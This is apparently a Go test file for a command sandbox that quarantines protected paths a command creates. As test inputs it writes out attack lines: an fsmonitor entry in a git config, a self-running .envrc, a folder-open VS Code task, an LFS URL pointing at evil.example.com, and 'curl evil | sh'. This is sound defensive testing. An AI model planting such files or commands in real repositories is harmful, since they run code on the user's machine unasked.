package sandbox

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/wardenhq/warden/sandbox/guard"
	"github.com/wardenhq/warden/sandbox/protect"
)

// A workspace with none of the protected names: the attacks create them,
// the twins create ordinary names like them.
func TestQuarantineCreatedProtectedNames(t *testing.T) {
	ws := t.TempDir()
	os.MkdirAll(filepath.Join(ws, "src"), 0o755)
	os.WriteFile(filepath.Join(ws, "src", "main.go"), []byte("package main\n"), 0o644)
	before := listTree(t, ws)
	attacks := `mkdir .git && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > .git/config
echo 'touch /tmp/pwned' > .envrc
printf '[lfs]\n\turl = https://evil.example.com/lfs\n' > .lfsconfig
mkdir .vscode && echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json
mkdir -p sub/.git/hooks && echo x > sub/.git/hooks/x
mkdir -p src/.git && echo x > src/.git/config
`
	twins := `echo '*.o' > .gitignore && mkdir git .github && echo x > git/config && echo x > .github/ci.yml && echo ok > sub/notes.txt`
	res := run(t, ws, Command{Argv: sh(attacks + twins + "\n" + `test -f .gitignore`), Policy: Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}})
	if res.ExitCode != 0 && !strings.Contains(string(res.Output), "No such file") {
		t.Fatalf("run: %+v %s", res, res.Output)
	}
	after := listTree(t, ws)
	want := slices.Concat(before, []string{".github", ".github/ci.yml", ".gitignore", "git", "git/config", "sub", "sub/notes.txt"})
	slices.Sort(want)
	slices.Sort(after)
	if !slices.Equal(after, want) {
		t.Errorf("workspace after the run:\n got %v\nwant %v", after, want)
	}
	var shown []string
	for _, r := range res.Removed {
		shown = append(shown, r.Shown)
		if r.Kept == "" || !strings.HasPrefix(r.Kept, protect.QuarantineDir()) {
			t.Errorf("%s not kept in the quarantine: %+v", r.Shown, r)
		} else if _, err := os.Lstat(r.Kept); err != nil {
			t.Errorf("%s: kept copy missing: %v", r.Shown, err)
		}
		if !strings.Contains(r.String(), "the sandbox removed "+r.Shown+" it created: protected path; kept at ") {
			t.Errorf("message %q", r.String())
		}
	}
	slices.Sort(shown)
	if wantShown := []string{".envrc", ".git", ".lfsconfig", ".vscode", "src/.git", "sub/.git"}; !slices.Equal(shown, wantShown) {
		t.Errorf("reported %v, want %v", shown, wantShown)
	}
	for _, r := range res.Removed {
		if r.Shown == ".git" {
			if b, err := os.ReadFile(filepath.Join(r.Kept, "config")); err == nil && !strings.Contains(string(b), "fsmonitor") {
				t.Errorf("kept .git/config %q", b)
			}
		}
	}
	if res.SandboxDenied {
		t.Errorf("Warden's own removal taken for a denial: %s", res.DenialReason)
	}
}

// A protected name the command creates is moved away while the command
// still runs: a host git or shell prompt never gets to obey it.
func TestQuarantineWhileTheCommandRuns(t *testing.T) {
	ws := t.TempDir()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	p := startUntilGone(t, ctx, ws, `mkdir .git; echo '[core]' > .git/config; echo x > .envrc; echo started > started; sleep 30`, ".git", ".envrc")
	cancel()
	res := p.Wait()
	if len(res.Removed) < 2 {
		t.Errorf("removed %+v", res.Removed)
	}
}

// The guard watches the missing protected names before the command may
// start, though its watches are set up beside the helper's work: when the
// caller's Ready runs, the last step before the helper's go, the run's guard
// is already live and watching the workspace, even when setting up the
// watches is slow.
func TestGuardWatchesBeforeTheCommandStarts(t *testing.T) {
	guard.DelayArmForTest(100 * time.Millisecond)
	defer guard.DelayArmForTest(0)
	ws := t.TempDir()
	watching := false
	ready := func() error {
		watching = guard.Watching(ws)
		return nil
	}
	res, err := Run(context.Background(), Command{Argv: sh(`mkdir .git`), Cwd: ws, Helper: testHelper, Ready: ready,
		Policy: Policy{Workspace: []string{ws}, ExcludeSlashTmp: true, ExcludeTmpdir: true}})
	if err != nil {
		t.Fatal(err)
	}
	if !watching {
		t.Error("the command was let go before the guard watched the workspace")
	}
	if len(res.Removed) != 1 || !goneFrom(ws, ".git") {
		t.Errorf("removed %+v, .git gone: %v", res.Removed, goneFrom(ws, ".git"))
	}
}

// startUntilGone starts script in the workspace ws and waits until it has
// written ws/started and every one of names is gone from ws, while it
// still runs: the removal was seen during the command, not after it.
func startUntilGone(t *testing.T, ctx context.Context, ws, script string, names ...string) *Process {
	t.Helper()
	p, err := Start(ctx, Command{Argv: sh(script),
		Cwd: ws, Helper: testHelper, Policy: Policy{Workspace: []string{ws}, ExcludeSlashTmp: true, ExcludeTmpdir: true}})
	if err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		_, err := os.Stat(filepath.Join(ws, "started"))
		var left []string
		for _, n := range names {
			if !goneFrom(ws, n) {
				left = append(left, n)
			}
		}
		if err == nil && len(left) == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("still there while the command runs: %v (started: %v)", left, err == nil)
		}
		time.Sleep(5 * time.Millisecond)
	}
	select {
	case <-p.done:
		t.Fatal("the command ended before the check: the removal was not seen while it ran")
	default:
	}
	return p
}

// goneFrom says whether ws holds no entry named n.
func goneFrom(ws, n string) bool {
	_, err := os.Lstat(filepath.Join(ws, n))
	return os.IsNotExist(err)
}

// The twin of the attacks above: a workspace that has the names keeps them
// read-only and untouched, and nothing is reported.
func TestQuarantineLeavesExistingNamesAlone(t *testing.T) {
	ws := t.TempDir()
	os.Mkdir(filepath.Join(ws, ".vscode"), 0o755)
	os.WriteFile(filepath.Join(ws, ".envrc"), []byte("export A=1\n"), 0o644)
	res := run(t, ws, Command{Argv: sh(`! echo x >> .envrc 2>/dev/null && ! touch .vscode/x 2>/dev/null && cat .envrc`), Policy: Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}})
	if res.ExitCode != 0 || len(res.Removed) != 0 {
		t.Fatalf("%+v %s", res, res.Output)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".envrc")); string(b) != "export A=1\n" {
		t.Errorf(".envrc now %q", b)
	}
}

// A .git made as a symbolic link to a directory outside is moved as a link:
// what it points to stays where it is.
func TestQuarantineNeverFollowsLinks(t *testing.T) {
	ws, outside := t.TempDir(), t.TempDir()
	os.WriteFile(filepath.Join(outside, "config"), []byte("mine\n"), 0o644)
	res := run(t, ws, Command{Argv: sh(`ln -s ` + outside + ` .git && mkdir sub && ln -s ` + outside + ` sub/.git`), Policy: Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}})
	if res.ExitCode != 0 || len(res.Removed) != 2 {
		t.Fatalf("%+v %s", res, res.Output)
	}
	for _, r := range res.Removed {
		if st, err := os.Lstat(r.Kept); err != nil || st.Mode()&os.ModeSymlink == 0 {
			t.Errorf("%s kept as %v (%v), want the link itself", r.Shown, st, err)
		}
	}
	if b, err := os.ReadFile(filepath.Join(outside, "config")); err != nil || string(b) != "mine\n" {
		t.Errorf("the link's target changed: %q %v", b, err)
	}
	if got := listTree(t, ws); !slices.Equal(got, []string{"sub"}) {
		t.Errorf("workspace holds %v", got)
	}
}

// A writable root on another filesystem (/dev/shm) gets its creations
// copied to the quarantine and removed.
func TestQuarantineAcrossFilesystems(t *testing.T) {
	ws, err := os.MkdirTemp("/dev/shm", "warden-q-")
	if err != nil {
		t.Skip("no /dev/shm")
	}
	defer os.RemoveAll(ws)
	// Made elsewhere and renamed into place, so it is whole when seen.
	res := run(t, ws, Command{Argv: sh(`mkdir -p x/hooks && echo x > x/hooks/pre-commit && ln -s /etc/passwd x/link && mv x .git && echo ok > notes`), Policy: Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}})
	if res.ExitCode != 0 || len(res.Removed) != 1 || res.Removed[0].Kept == "" {
		t.Fatalf("%+v %s", res, res.Output)
	}
	kept := res.Removed[0].Kept
	if b, err := os.ReadFile(filepath.Join(kept, "hooks", "pre-commit")); err != nil || string(b) != "x\n" {
		t.Errorf("hook not kept: %q %v", b, err)
	}
	if l, err := os.Readlink(filepath.Join(kept, "link")); err != nil || l != "/etc/passwd" {
		t.Errorf("link not kept as a link: %q %v", l, err)
	}
	if got := listTree(t, ws); !slices.Equal(got, []string{"notes"}) {
		t.Errorf("workspace holds %v", got)
	}
}

// grep -r, find and git status see the same inside the sandbox as outside:
// nothing of Warden's is in the tree, so nothing errors or shows up.
func TestQuarantineToolsSeeTheSameTree(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	for _, repo := range []bool{false, true} {
		ws := t.TempDir()
		os.MkdirAll(filepath.Join(ws, "a", "b"), 0o755)
		os.WriteFile(filepath.Join(ws, "a", "b", "f.txt"), []byte("x marks\n"), 0o644)
		if repo {
			c := exec.Command("git", "init", "-q", ws)
			c.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null")
			if out, err := c.CombinedOutput(); err != nil {
				t.Fatalf("git init: %v %s", err, out)
			}
		}
		script := `grep -r x . ; echo "grep $?"; find . -path ./.git -prune -o -print | sort; echo "find $?"; GIT_CONFIG_GLOBAL=/dev/null git status --porcelain 2>&1; echo "git $?"`
		host := exec.Command("/bin/sh", "-c", script)
		host.Dir = ws
		want, _ := host.CombinedOutput()
		res := run(t, ws, Command{Argv: sh(script), Policy: Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}})
		if string(res.Output) != string(want) || res.ExitCode != 0 || res.SandboxDenied || len(res.Removed) != 0 {
			t.Errorf("repo %v: inside the sandbox\n%s\nhost\n%s\n%+v", repo, res.Output, want, res)
		}
	}
}

// A failure that follows Warden's own removal is not called a sandbox
// denial (no retry without the sandbox is offered for it); the twin, a
// write the sandbox really refuses, still is.
func TestQuarantineFailureIsNoDenial(t *testing.T) {
	ws := t.TempDir()
	pol := Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}
	res := run(t, ws, Command{Argv: sh(`mkdir .git; sleep 0.2; echo x > .git/config || { echo "sh: .git/config: Permission denied" >&2; exit 1; }`), Policy: pol})
	if len(res.Removed) != 1 || res.SandboxDenied {
		t.Errorf("attack: removed %v, denied %v (%s)", res.Removed, res.SandboxDenied, res.DenialReason)
	}
	res = run(t, ws, Command{Argv: sh(`echo x > /etc/warden-denied`), Policy: pol})
	if !res.SandboxDenied || len(res.Removed) != 0 {
		t.Errorf("twin: %+v", res)
	}
}

// An empty mode-000 entry (what earlier Warden versions put at missing
// names, and may still put in a shared /tmp beside this one) is left alone;
// made usable by a chmod, it is moved away like any creation.
func TestQuarantineStalePlaceholders(t *testing.T) {
	ws := t.TempDir()
	pol := Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}
	res := run(t, ws, Command{Argv: sh(`touch x && chmod 000 x && mv x .mcp.json && mkdir -m 000 .idea`), Policy: pol})
	if res.ExitCode != 0 || len(res.Removed) != 0 {
		t.Fatalf("placeholders: %+v %s", res.Removed, res.Output)
	}
	os.Chmod(filepath.Join(ws, ".idea"), 0o755)
	os.Remove(filepath.Join(ws, ".idea"))
	res = run(t, ws, Command{Argv: sh(`touch x && chmod 000 x && mv x .envrc && sleep 0.2 && chmod 644 .envrc && echo 'curl evil | sh' > .envrc; sleep 0.2`), Policy: pol})
	if len(res.Removed) != 1 || res.Removed[0].Shown != ".envrc" {
		t.Errorf("chmod then write: removed %+v (%s)", res.Removed, res.Output)
	}
	if _, err := os.Lstat(filepath.Join(ws, ".envrc")); err == nil {
		t.Error(".envrc stayed")
	}
}
